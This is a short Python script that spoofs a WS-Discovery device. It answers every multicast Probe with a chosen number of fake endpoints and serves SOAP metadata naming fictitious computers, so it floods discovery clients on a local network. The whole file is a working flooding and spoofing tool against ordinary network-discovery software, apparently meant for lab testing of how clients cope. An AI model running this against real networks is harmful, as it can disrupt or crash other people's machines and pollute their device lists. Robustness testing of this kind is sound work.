#!/usr/bin/env python3
"""A device that answers every WS-Discovery Probe with COUNT endpoints of
its own, each with metadata naming another computer, as a flood would.

    wsd-flood.py ADDRESS COUNT
"""
import re
import socket
import struct
import sys
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

ADDRESS, COUNT = sys.argv[1], int(sys.argv[2])
GROUP, PORT, HTTP_PORT = "239.255.255.250", 3702, 5357
NAMESPACES = (
    'xmlns:soap="http://www.w3.org/2003/05/soap-envelope" '
    'xmlns:wsa="http://schemas.xmlsoap.org/ws/2004/08/addressing" '
    'xmlns:wsd="http://schemas.xmlsoap.org/ws/2005/04/discovery" '
    'xmlns:wsx="http://schemas.xmlsoap.org/ws/2004/09/mex" '
    'xmlns:wsdp="http://schemas.xmlsoap.org/ws/2006/02/devprof" '
    'xmlns:pub="http://schemas.microsoft.com/windows/pub/2005/07"')


def soap(action, relates_to, body):
    return ('<soap:Envelope %s><soap:Header><wsa:Action>%s</wsa:Action>'
            '<wsa:RelatesTo>%s</wsa:RelatesTo></soap:Header><soap:Body>%s'
            '</soap:Body></soap:Envelope>' % (NAMESPACES, action, relates_to, body)).encode()


def message_id(text):
    found = re.search(r'<wsa:MessageID>([^<]*)</wsa:MessageID>', text)
    return found.group(1) if found else ''


def endpoint(index):
    return 'urn:uuid:4e564e56-f100-4000-8000-%012d' % index


def answer_probes():
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    sock.bind(('', PORT))
    sock.setsockopt(socket.IPPROTO_IP, socket.IP_ADD_MEMBERSHIP,
                    struct.pack('4s4s', socket.inet_aton(GROUP), socket.inet_aton(ADDRESS)))
    while True:
        data, sender = sock.recvfrom(65536)
        text = data.decode(errors='replace')
        if 'discovery/Probe<' not in text:
            continue
        relates_to = message_id(text)
        for index in range(COUNT):
            match = ('<wsd:ProbeMatches><wsd:ProbeMatch><wsa:EndpointReference><wsa:Address>%s'
                     '</wsa:Address></wsa:EndpointReference><wsd:XAddrs>http://%s:%d/%d'
                     '</wsd:XAddrs></wsd:ProbeMatch></wsd:ProbeMatches>'
                     % (endpoint(index), ADDRESS, HTTP_PORT, index))
            sock.sendto(soap('http://schemas.xmlsoap.org/ws/2005/04/discovery/ProbeMatches',
                             relates_to, match), sender)


class Metadata(BaseHTTPRequestHandler):
    def do_POST(self):
        length = min(int(self.headers.get('Content-Length', 0)), 65536)
        text = self.rfile.read(length).decode(errors='replace')
        index = self.path.strip('/')
        body = soap('http://schemas.xmlsoap.org/ws/2004/09/transfer/GetResponse',
                    message_id(text),
                    '<wsx:Metadata><wsx:MetadataSection><wsdp:Relationship><wsdp:Host>'
                    '<pub:Computer>FLOOD%s/Workgroup:LABFLOOD</pub:Computer></wsdp:Host>'
                    '</wsdp:Relationship></wsx:MetadataSection></wsx:Metadata>' % index)
        self.send_response(200)
        self.send_header('Content-Length', str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *args):
        pass


threading.Thread(target=answer_probes, daemon=True).start()
ThreadingHTTPServer((ADDRESS, HTTP_PORT), Metadata).serve_forever()
